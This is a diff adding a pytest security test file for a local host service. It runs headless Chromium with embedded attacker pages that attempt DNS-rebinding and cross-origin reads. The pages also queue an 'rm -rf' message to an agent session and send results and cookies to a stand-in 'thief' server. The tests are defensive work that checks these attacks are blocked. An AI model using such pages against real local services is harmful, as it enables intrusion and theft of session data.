@@ -1,0 +1,234 @@
+"""Attacks from pages of other sites, in a real Chromium, against a real host.
+
+The pages run on the same machine as the host, under a name that leads to it, as after DNS
+rebinding.  What each attack got, the page writes into itself, and Chromium prints the page.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+from collections.abc import Iterator
+from contextlib import contextmanager
+from functools import partial
+from html import unescape
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from itertools import product
+from pathlib import Path
+from queue import SimpleQueue
+from threading import Thread
+from typing import Any
+from urllib.request import ProxyHandler, Request, build_opener
+
+import pytest
+
+from sxhost.auth.tokens import token_file
+from tests.process.test_strangers import NOBODY, curl
+from tests.support.hosts import PATIENCE, Host, StartHost
+from tests.support.proxies import nginx
+
+CHROMIUM = shutil.which("chromium") or "chromium"
+OPTIONS = (
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--host-resolver-rules=MAP evil.test 127.0.0.1",
+)
+
+NOTHING = ("blocked", "opaque")
+"""What an attack got that read nothing; whether it did something, the host tells."""
+
+ATTACKS = """<!doctype html><script>
+const port = PORT, got = {};
+const read = async (name, url, how) => {
+  try {
+    const answer = await fetch(url, how);
+    got[name] = answer.type === "opaque" ? "opaque" : await answer.text();
+  } catch (error) { got[name] = "blocked"; }
+};
+const listen = (name, url) => new Promise(done => {
+  const socket = new WebSocket(url);
+  socket.onmessage = said => { got[name] = said.data; done(); };
+  socket.onclose = () => { got[name] ??= "blocked"; done(); };
+});
+const message = {method: "POST", body: JSON.stringify({content: "rm -rf"})};
+const plain = {...message, mode: "no-cors", headers: {"Content-Type": "text/plain"}};
+const typed = {...message, headers: {"Content-Type": "application/json"}};
+const cookies = {credentials: "include"};
+(async () => {
+  for (const host of ["127.0.0.1", "localhost", "0.0.0.0", "evil.test"]) {
+    const url = `http://${host}:${port}`;
+    await read(`GET ${host}`, `${url}/sessions`, cookies);
+    await read(`pull ${host}`, `${url}/sessions/a/messages`, {mode: "no-cors"});
+    await read(`plain ${host}`, `${url}/sessions/a/messages`, plain);
+    await read(`typed ${host}`, `${url}/sessions/a/messages`, typed);
+    await listen(`socket ${host}`, `ws://${host}:${port}/v1/stream?after=0`);
+  }
+  await fetch("/got", {method: "POST", body: JSON.stringify(got)});
+})();
+</script>"""
+
+
+class Attacker(SimpleHTTPRequestHandler):
+    """Another site: serves its page, and hears what that got."""
+
+    got: SimpleQueue[dict[str, str]]
+
+    def do_POST(self) -> None:
+        got = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+        self.got.put({**got, "cookie": self.headers.get("Cookie", "")})
+        self.send_response(204)
+        self.end_headers()
+
+    def log_message(self, *_: Any) -> None:
+        """Say nothing."""
+
+
+@contextmanager
+def site(place: Path, port: int) -> Iterator[tuple[int, SimpleQueue[dict[str, str]]]]:
+    """Run another site whose page attacks the host; its port, and what the page got."""
+    place.mkdir()
+    (place / "index.html").write_text(ATTACKS.replace("PORT", str(port)))
+    got: SimpleQueue[dict[str, str]] = SimpleQueue()
+    handler = type("Handler", (Attacker,), {"got": got})
+    with ThreadingHTTPServer(
+        ("127.0.0.1", 0), partial(handler, directory=str(place))
+    ) as server:
+        thread = Thread(target=server.serve_forever)
+        thread.start()
+        try:
+            yield server.server_port, got
+        finally:
+            server.shutdown()
+            thread.join()
+
+
+def ask(url: str, body: Any = None) -> Any:
+    """Ask the host as its own user does."""
+    data = None if body is None else json.dumps(body).encode()
+    headers = {"Content-Type": "application/json"}
+    with build_opener(ProxyHandler({})).open(
+        Request(url, data, headers), timeout=PATIENCE
+    ) as a:
+        return json.loads(a.read())
+
+
+@contextmanager
+def browsing(url: str, home: Path, *options: str) -> Iterator[subprocess.Popen[str]]:
+    """Open a page in a new browser."""
+    words = [CHROMIUM, *OPTIONS, *options, f"--user-data-dir={home}", url]
+    quiet = subprocess.DEVNULL
+    with subprocess.Popen(words, stdout=subprocess.PIPE, stderr=quiet, text=True) as browser:
+        try:
+            yield browser
+        finally:
+            browser.terminate()
+
+
+def browse(url: str, home: Path) -> str:
+    """Open a page in a browser; return it as text."""
+    with browsing(url, home, "--dump-dom") as browser:
+        return unescape(browser.communicate(timeout=PATIENCE)[0])
+
+
+@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "evil.test"])
+def test_a_page_of_another_site_gets_nothing(
+    name: str, running_host: Host, tmp_path: Path
+) -> None:
+    ask(f"{running_host.url}/sessions/a/register", {"title": "a secret"})
+    ask(f"{running_host.url}/sessions/a/messages", {"content": "for the agent"})
+    with (
+        site(tmp_path / "site", running_host.port) as (port, got),
+        browsing(f"http://{name}:{port}", tmp_path / "browser"),
+    ):
+        answers = got.get(timeout=PATIENCE)
+    assert answers.pop("cookie") == ""
+    assert len(answers) == 20
+    assert {name: text for name, text in answers.items() if text not in NOTHING} == {}
+    (message,) = ask(f"{running_host.url}/sessions/a/messages?peek=1")
+    assert (message["content"], message["state"]) == ("for the agent", "queued")
+    running_host.stop()
+    assert running_host.output().count('" 403 ') >= 12
+
+
+def test_a_name_that_was_led_here_reads_nothing(running_host: Host, tmp_path: Path) -> None:
+    ask(f"{running_host.url}/sessions/a/register", {"title": "a secret"})
+    shown = browse(f"http://evil.test:{running_host.port}/sessions", tmp_path / "browser")
+    assert "forbidden_host" in shown
+    assert "a secret" not in shown
+
+
+def link_to(host: Host, state: Path) -> str:
+    """Return the path of a link that lets a browser in."""
+    token = token_file(state).read_text(encoding="ascii").strip()
+    asked = Request(f"{host.url}/logins", b"", {"Authorization": f"Bearer {token}"})
+    with build_opener(ProxyHandler({})).open(asked, timeout=PATIENCE) as answer:
+        return str(json.loads(answer.read())["path"])
+
+
+def test_a_login_in_a_real_browser(start_host: StartHost, tmp_path: Path) -> None:
+    host = start_host("--port", "0", "--require-token")
+    assert host.port
+    path, home = link_to(host, tmp_path / "state"), tmp_path / "browser"
+    assert "unauthorized" in browse(f"{host.url}/status", home)
+    assert '"name":"sxhost"' in browse(f"{host.url}{path}", home)
+    assert "unauthorized" in browse(f"{host.url}{path}", home)
+
+
+PAGE = """<!doctype html><script>
+const got = {}, told = new URLSearchParams(location.hash.slice(1)).get("page");
+if (told) { localStorage.setItem("page", told); history.replaceState(null, "", "/"); }
+const kept = localStorage.getItem("page");
+const ask = async (name, headers) => {
+  got[name] = (await fetch("/status", {headers})).status;
+};
+const listen = (name, protocols) => new Promise(done => {
+  const socket = new WebSocket(`ws://${location.host}/v1/stream?after=0`, protocols);
+  socket.onmessage = () => { got[name] = "hello"; socket.close(); done(); };
+  socket.onerror = () => { got[name] = "refused"; done(); };
+});
+(async () => {
+  await ask("page", {"Sxhost-Page": kept});
+  await ask("cookie alone", {});
+  await listen("socket", ["sxhost", `sxhost-page.${kept}`]);
+  await listen("socket alone", []);
+  const sent = {method: "POST", mode: "no-cors", credentials: "include"};
+  await fetch("http://127.0.0.1:THIEF/", {...sent, body: JSON.stringify(got)});
+})();
+</script>"""
+"""What a dashboard does behind a proxy; then it says what it got to another port."""
+
+
+def test_the_cookie_that_another_port_is_sent_is_worth_nothing(
+    start_host: StartHost, tmp_path: Path
+) -> None:
+    """Another port of the same name is the same site, so that no attribute keeps it away."""
+    host = start_host("--port", "0", "--require-token", "--allow-host", "127.0.0.1")
+    page = tmp_path / "page.html"
+    assert host.port
+    link = link_to(host, tmp_path / "state")
+    with (
+        site(tmp_path / "thief", host.port) as (thief, stolen),
+        nginx(tmp_path / "nginx", host.port, page=page) as front,
+    ):
+        page.write_text(PAGE.replace("THIEF", str(thief)))
+        with browsing(front + link, tmp_path / "browser"):
+            got = stolen.get(timeout=PATIENCE)
+        cookie = got.pop("cookie")
+        assert got == {
+            "page": 200, "cookie alone": 401, "socket": "hello", "socket alone": "refused",
+        }  # fmt: skip
+        assert cookie.startswith(f"sxhost-{host.port}=")
+        as_token = f"Authorization: Bearer {cookie.partition('=')[2]}"
+        for uid, url in product((os.getuid(), NOBODY), (front, host.url)):
+            assert curl(uid, "-H", as_token, f"{url}/status")[0] == 401
+            shown = curl(uid, "-H", f"Cookie: {cookie}", f"{url}/status")[0]
+            own = uid == os.getuid() and url == host.url
+            assert shown == (200 if own else 401)
